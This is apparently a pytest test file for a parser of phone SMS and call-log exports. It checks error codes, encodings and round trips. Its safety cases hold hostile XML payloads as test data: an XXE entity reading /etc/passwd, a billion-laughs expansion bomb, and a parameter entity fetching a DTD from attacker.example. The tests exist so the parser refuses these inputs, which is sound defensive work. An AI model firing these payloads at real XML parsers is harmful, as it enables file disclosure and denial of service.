"""Reading phone exports: what the writer wrote is what the reader reads, and every file that cannot
be read is refused with its own code — DTDs, entities, truncation, wrong encodings, no records."""

from __future__ import annotations

import io
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewshield.forensics import synthetic
from reviewshield.forensics.parse import ExportError, ExportReader
from reviewshield.forensics.records import CALL, CALL_TYPES, IN, OUT, SMS, Record, number_key
from reviewshield.forensics.text import error_text
from tests.conftest import SHANGHAI

HEAD = b"<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n"
SMS_LINE = b'<sms protocol="0" address="10690000" date="1776258180000" type="1" body="hi" contact_name="(Unknown)" />'


def read(data: bytes) -> list[Record]:
    return list(ExportReader(io.BytesIO(data), tz=SHANGHAI))


def refused(data: bytes) -> ExportError:
    with pytest.raises(ExportError) as caught:
        read(data)
    return caught.value


# -- safety ---------------------------------------------------------------------------------------

XXE = (
    HEAD
    + b'<!DOCTYPE smses [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<smses count="1">'
    + SMS_LINE.replace(b'body="hi"', b'body="&xxe;"')
    + b"</smses>"
)
BILLION_LAUGHS = (
    HEAD
    + b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b']>\n<smses count="1">'
    + SMS_LINE.replace(b'body="hi"', b'body="&lol9;"')
    + b"</smses>"
)
PARAMETER_ENTITY = (
    HEAD + b'<!DOCTYPE smses [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><smses/>'
)
LATIN1 = (
    HEAD.replace(b"UTF-8", b"UTF-8")
    + b"<smses>"
    + SMS_LINE.replace(b'body="hi"', 'body="caf\xe9"'.encode("latin-1"))
    + b"</smses>"
)

SAFETY = [
    ("external entity (XXE)", XXE, "dtd_refused"),
    ("billion laughs", BILLION_LAUGHS, "dtd_refused"),
    ("parameter entity", PARAMETER_ENTITY, "dtd_refused"),
    ("internal DTD", HEAD + b"<!DOCTYPE smses><smses>" + SMS_LINE + b"</smses>", "dtd_refused"),
    (
        "undefined entity, no DTD",
        HEAD + b"<smses>" + SMS_LINE.replace(b'"hi"', b'"&boom;"') + b"</smses>",
        "entity_refused",
    ),
    ("truncated in a record", HEAD + b"<smses>" + SMS_LINE + SMS_LINE[:40], "truncated"),
    ("truncated after a record", HEAD + b"<smses>" + SMS_LINE + b"\n", "truncated"),
    (
        "UTF-16 with a byte-order mark",
        (HEAD.decode() + "<smses>" + SMS_LINE.decode() + "</smses>").encode("utf-16"),
        "encoding",
    ),
    (
        "UTF-16 without a byte-order mark",
        ("<smses>" + SMS_LINE.decode() + "</smses>").encode("utf-16-le"),
        "encoding",
    ),
    ("latin-1 bytes", LATIN1, "encoding"),
    ("GBK declared", HEAD.replace(b"UTF-8", b"GBK") + b"<smses>" + SMS_LINE + b"</smses>", "encoding"),
    ("zero records", HEAD + b'<smses count="0"></smses>', "no_records"),
    ("only MMS", synthetic.as_bytes(synthetic.write_sms_xml, [], mms=2), "no_records"),
    ("empty file", b"", "no_records"),
    ("whitespace only", b"  \n\n", "no_records"),
    ("a web page", b"<html><body>hello</body></html>", "not_phone_export"),
    ("not well-formed", HEAD + b'<smses><sms date="1776258180000" type="1" </smses>', "malformed"),
    (
        "bad date",
        HEAD + b"<smses>" + SMS_LINE.replace(b"1776258180000", b"yesterday") + b"</smses>",
        "bad_date",
    ),
    (
        "date in seconds",
        HEAD + b"<smses>" + SMS_LINE.replace(b"1776258180000", b"1776258180") + b"</smses>",
        "bad_date",
    ),
    (
        "missing date",
        HEAD + b"<smses>" + SMS_LINE.replace(b'date="1776258180000" ', b"") + b"</smses>",
        "bad_date",
    ),
    (
        "bad SMS type",
        HEAD + b"<smses>" + SMS_LINE.replace(b'type="1"', b'type="inbox"') + b"</smses>",
        "bad_attribute",
    ),
    (
        "bad call duration",
        HEAD + b'<calls><call number="1" duration="long" date="1776258180000" type="1" /></calls>',
        "bad_attribute",
    ),
    ("CSV without direction", b"kind,at,number\nsms,1776258180000,10690000\n", "csv_missing_column"),
    (
        "CSV in latin-1",
        "kind,at,number,direction,body\nsms,1776258180000,1069,in,café\n".encode("latin-1"),
        "encoding",
    ),
    ("CSV bad time", b"kind,at,number,direction\ncall,next tuesday,138,in\n", "bad_date"),
    ("CSV unknown kind", b"kind,at,number,direction\nfax,1776258180000,138,in\n", "bad_attribute"),
    (
        "CSV unknown direction",
        b"kind,at,number,direction\ncall,1776258180000,138,sideways\n",
        "bad_attribute",
    ),
    (
        "CSV open quote at the end",
        b'kind,at,number,direction,body\nsms,1776258180000,138,in,"never closed\n',
        "truncated",
    ),
    ("CSV header only", b"kind,at,number,direction\n", "no_records"),
    ("plain text", b"hello, this is not an export\n", "not_phone_export"),
]


@pytest.mark.parametrize(("what", "data", "code"), SAFETY, ids=[s[0] for s in SAFETY])
def test_unreadable_files_are_refused_with_their_own_code(what, data, code):
    error = refused(data)
    assert error.code == code, error
    # and each reads as a sentence in both languages, never a bare code
    for lang in ("en", "zh-hans"):
        text = error_text(error.code, {**error.params, "file": "sms.xml"}, lang)
        assert "sms.xml" in text and "{" not in text and code not in text


def test_refusals_name_the_line_and_the_value():
    data = (
        HEAD
        + b"<smses>\n"
        + SMS_LINE
        + b"\n"
        + SMS_LINE.replace(b"1776258180000", b"2026-04-15")
        + b"\n</smses>"
    )
    error = refused(data)
    assert (error.code, error.params["line"], error.params["value"]) == ("bad_date", 4, "2026-04-15")
    assert "line 4" in error_text(error.code, error.params, "en")
    assert "第 4 行" in error_text(error.code, error.params, "zh-hans")


def test_wrong_encoding_is_explained_in_both_languages():
    error = refused((HEAD.decode() + "<smses/>").encode("utf-16"))
    assert "UTF-16" in error_text(error.code, error.params, "en")
    assert "UTF-8" in error_text(error.code, error.params, "zh-hans")


def test_a_real_looking_export_reads_with_its_mms_counted_and_drafts_skipped():
    data = synthetic.as_bytes(
        synthetic.write_sms_xml, synthetic.code_burst(random.Random(1), 1776258180000, 3, 1000, 2), mms=2
    )
    data = data.replace(b"</smses>", SMS_LINE.replace(b'type="1"', b'type="3"') + b"</smses>")  # a draft
    reader = ExportReader(io.BytesIO(data), tz=SHANGHAI)
    records = list(reader)
    assert len(records) == 3 and reader.mms == 2 and reader.format == "sms_xml"
    assert records[0].number == "1069012345" and "验证码" in records[0].body and records[0].contact == ""


def test_calls_xml_types_and_unknown_callers():
    data = HEAD + (
        b'<calls count="3">'
        b'<call number="+86 138-0013-8000" duration="35" date="1776258180000" type="1" contact_name="Mum" />'
        b'<call number="17012345678" duration="0" date="1776258190000" type="5" contact_name="(Unknown)" />'
        b'<call number="" duration="0" date="1776258200000" type="6" presentation="2" />'
        b"</calls>"
    )
    reader = ExportReader(io.BytesIO(data), tz=SHANGHAI)
    records = list(reader)
    assert [(r.direction, r.call_type, r.contact) for r in records] == [
        ("in", "incoming", "Mum"),
        ("in", "rejected", ""),
        ("in", "blocked", ""),
    ]
    assert reader.declared_count == 3 and reader.format == "calls_xml"
    assert number_key(records[0].number) == "13800138000"


def test_records_are_read_back_by_their_offsets():
    records = synthetic.code_burst(random.Random(2), 1776258180000, 50, 1000, 3)
    data = synthetic.as_bytes(synthetic.write_sms_xml, records)
    reader = ExportReader(io.BytesIO(data), tz=SHANGHAI)
    offsets = [o for _, batch in reader.batches() for o in batch]
    back = reader.records_at(io.BytesIO(data), [offsets[0], offsets[17], offsets[-1]])
    assert [back[o] for o in (offsets[0], offsets[17], offsets[-1])] == [records[0], records[17], records[-1]]


def test_csv_times_with_and_without_an_offset():
    data = (
        "kind,at,number,direction,duration_s,body,contact\n"
        "sms,2026-04-15T21:03:00+08:00,10690000123,in,,【美团】您的验证码是 483920,\n"
        "call,2026-04-15 21:03:00,13800138000,rejected,0,,\n"
        'sms,1776258180000,13800138000,out,,"line one\nline two, with a comma",Mum\n'
    ).encode()
    records = read(data)
    assert records[0].at_ms == records[1].at_ms == 1776258180000  # no offset: Beijing time
    assert records[2].body == "line one\nline two, with a comma" and records[2].contact == "Mum"
    assert (records[1].direction, records[1].call_type) == ("in", "rejected")


# -- round trips ----------------------------------------------------------------------------------

TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
    | st.sampled_from("\n\t\r&<>\"'"),
    max_size=60,
)
CONTACT = TEXT.filter(
    lambda c: c.strip() not in {"", "(Unknown)", "(unknown)", "Unknown", "unknown", "null", "(未知)", "未知"}
) | st.just("")
AT = st.integers(min_value=946_684_800_000, max_value=4_102_444_799_999)


@st.composite
def records(draw, call_types=CALL_TYPES):
    if draw(st.booleans()):
        return Record(
            SMS, draw(AT), draw(TEXT), draw(st.sampled_from((IN, OUT))), "", 0, draw(TEXT), draw(CONTACT)
        )
    call_type = draw(st.sampled_from(call_types))
    direction = OUT if call_type == "outgoing" else IN
    return Record(
        CALL, draw(AT), draw(TEXT), direction, call_type, draw(st.integers(0, 10**6)), "", draw(CONTACT)
    )


@settings(max_examples=150, deadline=None)
@given(st.lists(records(), min_size=1, max_size=30))
def test_what_the_xml_writers_write_is_what_the_reader_reads(written):
    sms = [r for r in written if r.kind == SMS]
    calls = [r for r in written if r.kind == CALL]
    if sms:
        assert read(synthetic.as_bytes(synthetic.write_sms_xml, written)) == sms
    if calls:
        assert read(synthetic.as_bytes(synthetic.write_calls_xml, written)) == calls


@settings(max_examples=150, deadline=None)
@given(st.lists(records(call_types=tuple(t for t in CALL_TYPES if t != "other")), min_size=1, max_size=30))
def test_what_the_csv_writer_writes_is_what_the_reader_reads(written):
    out = io.StringIO()
    synthetic.write_csv(out, written)
    assert read(out.getvalue().encode()) == written


# -- the fast path: attribute orders, absent attributes, scan ----------------------------------------


def _escape(text: str) -> str:
    return text.translate(synthetic._ESCAPE)


def _element(record: Record, order: list[int], drop_optional: bool) -> str:
    """One <sms> or <call> with its attributes in the given order (absent ones left out when allowed)."""
    if record.kind == SMS:
        attrs = [
            ("date", str(record.at_ms)),
            ("type", "1" if record.direction == IN else "2"),
            ("address", _escape(record.number)),
            ("body", _escape(record.body)),
            ("contact_name", _escape(record.contact or "(Unknown)")),
            ("read", "1"),
            ("readable_date", "Apr 15, 2026 9:03:00 PM"),
        ]
    else:
        attrs = [
            ("date", str(record.at_ms)),
            ("type", synthetic._CALL_TYPE[record.call_type]),
            ("number", _escape(record.number)),
            ("duration", str(record.duration_s)),
            ("contact_name", _escape(record.contact or "(Unknown)")),
            ("presentation", "1"),
            ("readable_date", "Apr 15, 2026 9:03:00 PM"),
        ]
    if drop_optional:
        # what a reader may assume when an attribute is missing: type 1, no contact, no duration
        if attrs[1][1] == "1":
            attrs[1] = ("", "")
        if not record.contact:
            attrs[4] = ("", "")
        if record.kind == CALL and record.duration_s == 0:
            attrs[3] = ("", "")
    tag = "sms" if record.kind == SMS else "call"
    return f"<{tag} " + " ".join(f'{attrs[i][0]}="{attrs[i][1]}"' for i in order if attrs[i][0]) + " />"


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(records(), st.permutations(range(7)), st.booleans()),
        min_size=1,
        max_size=30,
    )
)
def test_attributes_in_any_order_and_left_out_read_the_same(written):
    # The reader works out where the attributes are from one record and only checks the next ones:
    # every record may change the order, or leave an attribute out.
    for kind, root in ((SMS, "smses"), (CALL, "calls")):
        mine = [(r, order, drop) for r, order, drop in written if r.kind == kind]
        if not mine:
            continue
        body = "\n".join(_element(r, order, drop) for r, order, drop in mine)
        data = f"<?xml version='1.0' encoding='UTF-8'?>\n<{root}>\n{body}\n</{root}>\n".encode()
        assert read(data) == [r for r, _, _ in mine]


def test_the_layout_is_checked_on_every_record():
    # the second record has the same number of attributes, with date and body swapped
    first = b'<sms date="1776258180000" type="1" address="1069" body="hi" contact_name="Mum" />'
    second = b'<sms body="1776258180000" type="1" address="1069" date="1776258190000" contact_name="Mum" />'
    records = read(HEAD + b"<smses>" + first + second + b"</smses>")
    assert [(r.at_ms, r.body) for r in records] == [(1776258180000, "hi"), (1776258190000, "1776258180000")]


def test_an_element_without_a_date_is_refused_even_after_good_ones():
    data = (
        HEAD + b"<smses>\n" + SMS_LINE + b"\n" + SMS_LINE.replace(b'date="1776258180000" ', b"") + b"</smses>"
    )
    error = refused(data)
    assert (error.code, error.params["line"], error.params["value"]) == ("bad_date", 4, "")


@pytest.mark.parametrize("fmt", ["xml", "csv"])
def test_scan_visits_what_the_buyer_received_and_counts_every_record(fmt):
    received = Record(SMS, 1776258180000, "10690000", IN, "", 0, "验证码 483920", "")
    sent = Record(SMS, 1776258170000, "13800138000", OUT, "", 0, "ok", "Mum")
    call_in = Record(CALL, 1776258190000, "17012345678", IN, "rejected", 0, "", "")
    call_out = Record(CALL, 1776258200000, "13800138000", OUT, "outgoing", 35, "", "Mum")
    written = [sent, received, call_in, call_out]
    if fmt == "csv":
        out = io.StringIO()
        synthetic.write_csv(out, written)
        files = [out.getvalue().encode()]
    else:
        files = [
            synthetic.as_bytes(synthetic.write_sms_xml, written),
            synthetic.as_bytes(synthetic.write_calls_xml, written),
        ]
    visited: list[Record] = []
    counts = []
    for data in files:
        reader = ExportReader(io.BytesIO(data), tz=SHANGHAI)
        reader.scan(lambda *fields: visited.append(Record(*fields)))
        counts.append((reader.sms, reader.calls, reader.records, reader.first_ms, reader.last_ms))
    assert visited == [received, call_in]
    if fmt == "csv":
        assert counts == [(2, 2, 4, 1776258170000, 1776258200000)]
    else:
        assert counts == [(2, 0, 2, 1776258170000, 1776258180000), (0, 2, 2, 1776258190000, 1776258200000)]


def test_scan_gives_the_offset_each_visited_record_is_read_back_from():
    records = synthetic.code_burst(random.Random(3), 1776258180000, 20, 1000, 3)
    records[5] = records[5]._replace(direction=OUT)
    data = synthetic.as_bytes(synthetic.write_sms_xml, records)
    reader = ExportReader(io.BytesIO(data), tz=SHANGHAI)
    offsets: list[int] = []
    reader.scan(lambda *_fields: offsets.append(reader.offset()))
    back = reader.records_at(io.BytesIO(data), offsets)
    assert [back[o] for o in offsets] == [r for r in records if r.direction == IN]
